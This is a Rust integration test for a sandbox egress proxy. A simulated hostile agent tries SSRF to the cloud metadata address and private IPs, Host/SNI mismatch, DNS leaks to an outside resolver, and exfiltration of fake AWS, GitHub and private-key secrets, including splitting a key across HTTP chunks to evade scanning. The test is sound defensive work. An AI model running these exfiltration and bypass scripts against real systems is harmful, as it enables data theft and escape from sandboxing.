//! Issue 5 end to end: a bottle's pipelock refuses what its manifest does not allow,
//! answers 403 with the reason, and logs every decision, never a secret.
//!
//! One hostile agent bottle serves every case: a TLS fake upstream (the sidecar image's
//! `fake-upstream`) answers on net-egress as `open.example.test` and
//! `other.example.test`; the agent (curl + python3) attacks from inside, through egress
//! (its `HTTPS_PROXY`) or straight at pipelock. Names that must resolve to internal
//! addresses are put in pipelock's `/etc/hosts` (the file Docker manages on the host),
//! which pipelock reads again when it changes.

use std::process::Command;

use crate::util::{Project, ensure_image, inspect, start_upstream, upstream_certs};

/// Debian with curl and python3, built once per machine (apt works at build time).
const CLIENT_IMAGE: &str = "bottle-test-pipelock-client:1";
const CLIENT_DOCKERFILE: &str = "FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates python3 && rm -rf /var/lib/apt/lists/*\n";

fn client_image() {
    ensure_image(CLIENT_IMAGE, CLIENT_DOCKERFILE);
}

/// The manifest: `allow_cidrs` (the fake upstream's own address) comes in a second apply,
/// `late` (more allowed hosts) in a third.
fn manifest(cidrs: &str, late: &str) -> String {
    format!(
        r#"
bottles:
  dev:
    image: {{dockerfile: Dockerfile}}
    runtime: runc
    egress:
      allow: [open.example.test, other.example.test, meta.example.test, loop.example.test, lan.example.test{late}]
      allow_cidrs: [{cidrs}]
      upstream_ca: upstream-ca.pem
agents:
  x: {{bottle: dev}}
"#
    )
}

/// Parsed `pipelock.audit` lines of `bottle logs x --node pipelock`, and the raw text.
fn audit(p: &Project) -> (Vec<serde_json::Value>, String) {
    let r = p
        .bottle(&["logs", "x", "-p", &p.name, "--node", "pipelock"])
        .expect(0);
    let logs = r.stdout + &r.stderr;
    let lines = logs
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .filter(|v: &serde_json::Value| v["component"] == "pipelock.audit")
        .collect();
    (lines, logs)
}

/// A python3 script that CONNECTs to pipelock itself, then speaks TLS with `sni`.
fn sni_script(connect: &str, sni: &str) -> String {
    format!(
        r#"
import socket, ssl
s = socket.create_connection(("pipelock", 8888), timeout=10)
s.sendall(b"CONNECT {connect}:443 HTTP/1.1\r\nHost: {connect}:443\r\n\r\n")
head = b""
while b"\r\n\r\n" not in head:
    head += s.recv(1)
print(head.split(b"\r\n")[0].decode())
try:
    t = ssl.create_default_context().wrap_socket(s, server_hostname="{sni}")
    t.sendall(b"GET / HTTP/1.1\r\nHost: {sni}\r\nConnection: close\r\n\r\n")
    print("SERVED", t.recv(200))
except Exception as e:
    print("TLSFAIL", e)
"#
    )
}

/// A python3 chunked upload through egress whose chunks split `key` in two.
fn split_upload_script(key: &str) -> String {
    let (a, b) = key.split_at(9);
    format!(
        r#"
import http.client, time
c = http.client.HTTPSConnection("egress", 3128, timeout=30)
c.set_tunnel("open.example.test", 443)
filler = b"let value = compute(input); // ordinary code\n" * 300
def body():
    for part in [filler, b"aws_key_id: {a}", b"{b}\n"]:
        yield part
        time.sleep(0.2)
try:
    c.request("POST", "/count", body=body(), encode_chunked=True,
              headers={{"Transfer-Encoding": "chunked"}})
except Exception as e:
    print("SENDERR", e)
try:
    r = c.getresponse()
    print(r.status, r.read().decode())
except Exception as e:
    print("ERR", e)
"#
    )
}

#[test]
fn a_hostile_agent_gets_nothing_past_pipelock() {
    client_image();
    let p = Project::new("plk");
    let names = [
        "open.example.test",
        "other.example.test",
        "late.example.test",
    ];
    let certs = upstream_certs(&p, &names);
    std::fs::write(
        p.path("Dockerfile"),
        format!("FROM {CLIENT_IMAGE}\nCMD [\"sleep\", \"infinity\"]\n"),
    )
    .expect("Dockerfile");
    let m = p.manifest(&manifest("", ""));
    let m = m.to_str().expect("utf-8");
    p.bottle(&["apply", "-f", m]).expect(0);

    // The fake upstream, on net-egress only: a private Docker address.
    let upstream = start_upstream(&p, "x", &names, Some(&certs));
    let up_ip = inspect(
        &upstream.0,
        "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
    );
    assert!(!up_ip.is_empty(), "fake upstream has no address");

    let agent = p.obj("x", "agent");
    let exec = |args: &[&str]| -> String {
        let out = Command::new("docker")
            .args(["exec", &agent])
            .args(args)
            .output()
            .expect("docker exec");
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    };
    let sh = |script: &str| exec(&["sh", "-c", script]);
    let py = |script: &str| exec(&["python3", "-c", script]);
    let code = |args: &str| sh(&format!("curl -sS -m 30 -o /dev/null {args}; true"));

    // An allowed name resolving to a private address (the upstream's own, not yet in
    // allow_cidrs): refused, through egress as well as straight at pipelock.
    let via_egress = code("-w '%{http_code}' https://open.example.test/");
    assert!(!via_egress.contains("200"), "{via_egress}");
    let direct = code("-x http://pipelock:8888 -w '%{http_connect}' https://open.example.test/");
    assert!(direct.contains("403"), "{direct}");

    let (first, logs) = audit(&p);
    assert!(
        first.iter().any(|e| e["decision"] == "deny"
            && e["reason"] == "ssrf"
            && e["host"] == "open.example.test"),
        "{logs}"
    );

    // Only allow_cidrs changes: pipelock's policy is rewritten in place and reloaded;
    // no container is made anew.
    let ids = |n: &str| inspect(&p.obj("x", n), "{{.Id}}");
    let before = (ids("agent"), ids("egress"), ids("pipelock"));
    let cidrs = format!("{up_ip}/32");
    std::fs::write(m, format!("project: {}\n{}", p.name, manifest(&cidrs, ""))).expect("manifest");
    p.bottle(&["apply", "-f", m]).expect(0);
    assert_eq!(
        before,
        (ids("agent"), ids("egress"), ids("pipelock")),
        "a container was recreated"
    );

    // Names that resolve to internal addresses, through pipelock's /etc/hosts.
    let pipelock = p.obj("x", "pipelock");
    let hosts_path = inspect(&pipelock, "{{.HostsPath}}");
    let mut hosts = std::fs::read_to_string(&hosts_path).expect("read hosts");
    hosts.push_str(&format!(
        "169.254.169.254 meta.example.test\n127.0.0.1 loop.example.test\n10.1.2.3 lan.example.test\n{up_ip} late.example.test\n"
    ));
    std::fs::write(&hosts_path, hosts).expect("write hosts");

    // Allowed traffic works (the upstream may take a moment to listen).
    let mut out = String::new();
    for _ in 0..30 {
        out = sh("curl -sS -m 10 https://open.example.test/hello");
        if out.contains("/hello") {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(500));
    }
    assert!(
        out.contains("\"path\":\"/hello\""),
        "allowed request: {out}"
    );
    // A 30 MB upload, DLP on, is read whole, scanned in every decoded form and passed;
    // one over the 32 MiB cap is refused (413), never passed unscanned.
    let big = sh(
        "yes 'fn handle(request: Request) -> Response { respond(request.body()) }' | head -c 31457280 \
         | curl -sS -m 300 -X POST -T - https://open.example.test/count",
    );
    assert_eq!(big.trim(), "31457280", "30 MB upload");
    let over = sh(
        "yes 'fn handle(request: Request) -> Response { respond(request.body()) }' | head -c 41943040 \
         | curl -sS -m 300 -o /dev/null -w '%{http_code}' -X POST -T - https://open.example.test/count",
    );
    // pipelock answers 413 as soon as the cap is passed; over HTTP/2 curl may see the
    // stream reset before it reads that answer. Either way nothing was accepted.
    assert!(
        over.contains("413") || over.starts_with("000"),
        "40 MB upload: {over}"
    );

    // A host not on the allowlist; CONNECT to an IP literal; allowed names that
    // resolve to the metadata address, loopback and a private address.
    for url in [
        "https://forbidden.example.net/",
        "https://1.1.1.1/",
        "https://169.254.169.254/",
        "https://meta.example.test/",
        "https://loop.example.test/",
        "https://lan.example.test/",
    ] {
        let c = code(&format!(
            "-x http://pipelock:8888 -w '%{{http_connect}}' {url}"
        ));
        assert!(c.contains("403"), "{url}: {c}");
        // The agent's own proxy path fails too.
        let e = code(&format!("-w '%{{http_code}}' {url}"));
        assert!(!e.contains("200"), "{url} via egress: {e}");
    }

    // Host/SNI mismatch towards an allowed host.
    let sni = py(&sni_script("open.example.test", "other.example.test"));
    assert!(
        sni.contains("200") && sni.contains("TLSFAIL") && !sni.contains("SERVED"),
        "{sni}"
    );
    let host = code(
        "-x http://pipelock:8888 -w '%{http_code}' -H 'Host: other.example.test' https://open.example.test/",
    );
    assert!(host.contains("403"), "{host}");

    // Secrets in a POST body to an allowed HTTPS host, through egress.
    let aws = format!("AKIA{}", "Z7XQ4RW3MBK2LJ5N");
    let ghp = format!("ghp_{}", "Zq8mW3xR7tY2vB9nK4pL6sD1fG5hJ0cA8eU3");
    let pem = format!(
        "-----BEGIN RSA PRIVATE KEY-----\n{}\n{}\n",
        "MIIEowIBAAKCAQEA7bq9Xk3Lw2QmZr8YtN4vH6pJ1sD0fG5hJ0cA8eU3Zq8mW3xR",
        "q8mW3xR7tY2vB9nK4pL6sD1fG5hJ0cA8eU3Zq8mW3xR7tY2vB9nK4pL6sD1fG5h"
    );
    for (secret, rule) in [
        (format!("aws_key_id = {aws}\n"), "aws-access-key-id"),
        (format!("token: {ghp}\n"), "github-pat"),
        (pem.clone(), "private-key"),
    ] {
        use base64::Engine as _;
        let b64 = base64::engine::general_purpose::STANDARD.encode(&secret);
        let c = sh(&format!(
            "echo {b64} | base64 -d | curl -sS -m 30 -w ' %{{http_code}}' --data-binary @- https://open.example.test/count; true"
        ));
        assert!(c.ends_with(" 403") && c.contains(rule), "{rule}: {c}");
    }
    // The AWS key split across chunk boundaries of a chunked upload.
    let split = py(&split_upload_script(&aws));
    assert!(
        split.contains("403") && split.contains("aws-access-key-id"),
        "{split}"
    );

    // No way around the proxy: a direct TCP connect to the upstream's address, and
    // name resolution of an external name or of the upstream's own name.
    // agent-net's trap answers it with a reset (refused at once, not a timeout) and
    // reports it to pipelock's audit log (below).
    let tcp = py(&format!(
        "import socket\ntry:\n    socket.create_connection(('{up_ip}', 443), timeout=5); print('CONNECTED')\nexcept Exception as e:\n    print('FAILED', e)"
    ));
    assert!(tcp.contains("FAILED") && tcp.contains("refused"), "{tcp}");
    // A DNS question sent straight to an outside resolver: refused, and audited with
    // the name it asked for.
    let udp = py(
        "import socket, struct\nq = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in 'leak.example.net'.split('.')) + b'\\x00' + struct.pack('>HH', 1, 1)\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.settimeout(5)\ns.connect(('8.8.8.8', 53))\ns.send(q)\ntry:\n    s.recv(512); print('ANSWERED')\nexcept Exception as e:\n    print('FAILED', e)",
    );
    assert!(udp.contains("FAILED"), "{udp}");
    for name in ["example.com", "open.example.test"] {
        let dns = py(&format!(
            "import socket\ntry:\n    print('RESOLVED', socket.getaddrinfo('{name}', 443))\nexcept Exception as e:\n    print('FAILED', e)"
        ));
        assert!(dns.contains("FAILED"), "{name}: {dns}");
    }
    let direct = code("--noproxy '*' -m 5 -w '%{http_code}' https://open.example.test/");
    assert!(!direct.contains("200"), "{direct}");
    // Those names were asked of net-internal's gateway, which pipelock holds: refused
    // and audited (below). pipelock holds it as the sidecar user, with no capability
    // left, and does not route.
    let pid = inspect(&pipelock, "{{.State.Pid}}");
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("status");
    let field = |name: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .map(|v| v.split_whitespace().collect::<Vec<_>>())
            .unwrap_or_default()
    };
    assert_eq!(field("Uid:"), ["65534"; 4], "{status}");
    assert_eq!(field("Gid:"), ["65534"; 4], "{status}");
    assert_eq!(field("CapEff:"), ["0000000000000000"], "{status}");
    assert_eq!(field("CapPrm:"), ["0000000000000000"], "{status}");
    assert_eq!(
        inspect(
            &pipelock,
            "{{index .HostConfig.Sysctls \"net.ipv4.ip_forward\"}}"
        ),
        "0"
    );
    let gateway = inspect(
        &p.obj("x", "net-internal"),
        "{{range .IPAM.Config}}{{.Gateway}}{{end}}",
    );
    let fib = std::fs::read_to_string(format!("/proc/{pid}/net/fib_trie")).expect("fib_trie");
    assert!(
        fib.contains(&format!("{gateway}\n")),
        "pipelock does not hold {gateway}:\n{fib}"
    );

    // An allowlist change restarts nothing: `bottle diff` shows the policy rewritten in
    // place, `bottle apply` does it, and pipelock and egress reload it; the agent, which
    // reaches the new host through both, keeps running.
    let late = || code("-w '%{http_code}' https://late.example.test/");
    assert!(!late().contains("200"));
    let started = |n: &str| inspect(&p.obj("x", n), "{{.Id}} {{.State.StartedAt}}");
    let before: Vec<String> = ["agent", "egress", "pipelock"].map(started).into();
    std::fs::write(
        m,
        format!(
            "project: {}\n{}",
            p.name,
            manifest(&cidrs, ", late.example.test")
        ),
    )
    .expect("manifest");
    let diff = p.bottle(&["diff", "-f", m]).expect(1).stdout;
    assert!(
        diff.contains("rewrite") && diff.contains("pipelock-config") && !diff.contains("container"),
        "{diff}"
    );
    // apply returns when both readers have the new allowlist in force: no poll to wait.
    let applied = p.bottle(&["apply", "-f", m]).expect(0);
    assert!(
        applied.stderr.matches("  ready ").count() == 2,
        "egress and pipelock acknowledge the new config: {}",
        applied.stderr
    );
    let now = late();
    assert!(
        now.contains("200"),
        "the changed allowlist was not in force when apply returned: {now}"
    );
    let after: Vec<String> = ["agent", "egress", "pipelock"].map(started).into();
    assert_eq!(before, after, "a container restarted");
    p.bottle(&["diff", "-f", m]).expect(0);

    // Every refusal is in the audit log, read with `bottle logs`; no secret is.
    let (audit, logs) = audit(&p);
    let denied = |reason: &str, host: &str| {
        audit
            .iter()
            .any(|e| e["decision"] == "deny" && e["reason"] == reason && e["host"] == host)
    };
    for (reason, host) in [
        ("not-allowlisted", "forbidden.example.net"),
        ("ip-literal", "1.1.1.1"),
        ("ip-literal", "169.254.169.254"),
        ("ssrf", "meta.example.test"),
        ("ssrf", "loop.example.test"),
        ("ssrf", "lan.example.test"),
        ("sni-mismatch", "open.example.test"),
        ("host-mismatch", "open.example.test"),
        ("dns", "example.com"),
        ("dns", "open.example.test"),
        ("direct", up_ip.as_str()),
        ("dns", "leak.example.net"),
    ] {
        assert!(denied(reason, host), "no {reason} for {host} in:\n{logs}");
    }
    for rule in ["aws-access-key-id", "github-pat", "private-key"] {
        assert!(
            audit.iter().any(|e| e["reason"] == "dlp"
                && e["rule"] == rule
                && e["host"] == "open.example.test"),
            "no DLP {rule} in:\n{logs}"
        );
    }
    assert!(
        audit
            .iter()
            .filter(|e| e["reason"] == "dlp" && e["rule"] == "aws-access-key-id")
            .count()
            >= 2,
        "the split key is not in the log:\n{logs}"
    );
    for secret in [&aws[4..], &ghp[4..], "MIIEowIBAAKCAQEA7bq9Xk3L"] {
        assert!(!logs.contains(secret), "a secret reached the log");
    }
}
